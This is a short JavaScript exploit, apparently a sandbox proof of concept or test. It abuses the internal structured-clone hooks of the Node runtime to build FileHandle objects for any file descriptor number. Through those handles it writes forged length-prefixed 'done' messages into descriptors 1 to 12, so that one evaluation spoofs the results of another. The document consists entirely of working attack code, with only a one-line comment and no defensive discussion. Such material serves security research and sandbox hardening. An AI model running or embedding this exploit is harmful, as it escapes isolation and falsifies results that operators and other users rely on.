// One evaluation writes what the process would say at the end of another, into every descriptor that it can open.
const symbolsOf = (object) =>
  object === null
    ? []
    : [...Object.getOwnPropertySymbols(object), ...symbolsOf(Object.getPrototypeOf(object))];
const copyOf = (fd) => {
  let carrier;
  try {
    atob('!');
  } catch (error) {
    carrier = error;
  }
  const value = () => ({
    data: { handle: { fd } },
    deserializeInfo: 'internal/fs/promises:FileHandle',
  });
  for (const symbol of symbolsOf(carrier))
    if (String(symbol).includes('messaging_clone'))
      Object.defineProperty(carrier, symbol, { value });
  return structuredClone(carrier);
};
let written = 0;
for (let id = 0; id < 6; id += 1) {
  const body = new TextEncoder().encode(
    JSON.stringify({ type: 'done', id, value: 'forged by another evaluation' }),
  );
  const bytes = new Uint8Array(4 + body.length);
  new DataView(bytes.buffer).setUint32(0, body.length);
  bytes.set(body, 4);
  for (let fd = 1; fd < 13; fd += 1) {
    try {
      await copyOf(fd).write(bytes);
      written += 1;
    } catch {
      // It is none, or none that can be written to.
    }
  }
}
return written;
